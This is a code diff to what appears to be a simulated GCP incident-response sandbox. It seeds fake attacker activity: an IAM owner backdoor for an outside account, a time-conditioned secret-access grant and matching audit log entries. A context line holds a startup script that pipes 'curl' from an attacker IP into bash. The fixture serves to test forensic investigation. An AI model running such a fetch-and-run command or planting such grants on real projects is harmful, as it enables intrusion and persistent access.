@@ -36,6 +36,13 @@ WINDOW_START = "2026-11-20T08:00:00Z"
 WINDOW_END = "2026-11-20T12:00:00Z"
 STARTUP_SCRIPT = "#!/bin/bash\ncurl -s http://203.0.113.66/x.sh | bash\n"
 ATTACKER_IP = "203.0.113.66"
+BACKDOOR_MEMBER = "user:backdoor.ops@gmail.com"
+BACKDOOR_CONDITION = {"title": "until-2027", "expression": 'request.time < timestamp("2027-01-01T00:00:00Z")'}
+BACKDOOR_GRANTS = (  # what the attacker's SetIamPolicy added (its audit entry's policyDelta)
+    {"role": "roles/owner", "member": BACKDOOR_MEMBER},
+    {"role": "roles/secretmanager.secretAccessor", "member": f"serviceAccount:{SERVICE_ACCOUNT}",
+     "condition": BACKDOOR_CONDITION},
+)  # fmt: skip
 ATTACKER_KEY_ID = "9a8b7c6d5e4f30211203f4e5d6c7b8a9f0e1d2c3"  # the key the attacker created at 10:09
 # Generic capability names (shared by every sandbox) to the Compute / Logging operation they exercise.
 OPERATION_ALIASES = {
@@ -260,14 +267,19 @@ class GcpSandbox:
             "selfLink": link(PROJECT, "zones", OTHER_ZONE, "instances", "batch-worker-1"),
         }
         _plant_regional_group_member(fake)
-        fake.iam_policies[PROJECT] = {
-            "version": 1,
+        fake.iam_policies[PROJECT] = {  # as the attacker left it: BACKDOOR_GRANTS added at 10:05
+            "version": 3,
             "etag": "BwYTq2mE1Yc=",
             "bindings": [
                 {"role": "roles/editor", "members": [f"serviceAccount:{SERVICE_ACCOUNT}", f"user:{ADMIN}"]},
                 {"role": "roles/logging.viewer", "members": [f"serviceAccount:{RESPONDER}"]},
+                {"role": "roles/owner", "members": [f"user:{ADMIN}", BACKDOOR_MEMBER]},
+                {"role": "roles/secretmanager.secretAccessor", "members": [f"serviceAccount:{SERVICE_ACCOUNT}"],
+                 "condition": BACKDOOR_CONDITION},
+                {"role": "roles/storage.objectViewer", "members": ["user:contractor@victim.example"],
+                 "condition": {"title": "business-hours", "expression": "request.time.getHours('UTC') < 18"}},
             ],
-        }
+        }  # fmt: skip
         fake.service_accounts[SERVICE_ACCOUNT] = {
             "account": {
                 "name": f"projects/{PROJECT}/serviceAccounts/{SERVICE_ACCOUNT}",
@@ -535,14 +547,19 @@ def _attacker_entries() -> list[dict[str, Any]]:
         return _entry(minute, ATTACKER, service, method, resource, caller_ip=ATTACKER_IP, request=request)
 
     snapshot = f"projects/{PROJECT}/global/snapshots/db-backup-0412"
+    grant = attack(
+        10 * 60 + 5,
+        "cloudresourcemanager.googleapis.com",
+        "SetIamPolicy",
+        f"projects/{PROJECT}",
+        {"policy": {"bindings": [{"role": "roles/owner", "members": [BACKDOOR_MEMBER]}]}},
+    )
+    grant["protoPayload"]["serviceData"] = {
+        "@type": "type.googleapis.com/google.iam.v1.logging.AuditData",
+        "policyDelta": {"bindingDeltas": [{"action": "ADD", **delta} for delta in BACKDOOR_GRANTS]},
+    }
     return [
-        attack(
-            10 * 60 + 5,
-            "cloudresourcemanager.googleapis.com",
-            "SetIamPolicy",
-            f"projects/{PROJECT}",
-            {"policy": {"bindings": [{"role": "roles/owner", "members": ["user:backdoor.ops@gmail.com"]}]}},
-        ),
+        grant,
         attack(
             10 * 60 + 9,
             "iam.googleapis.com",
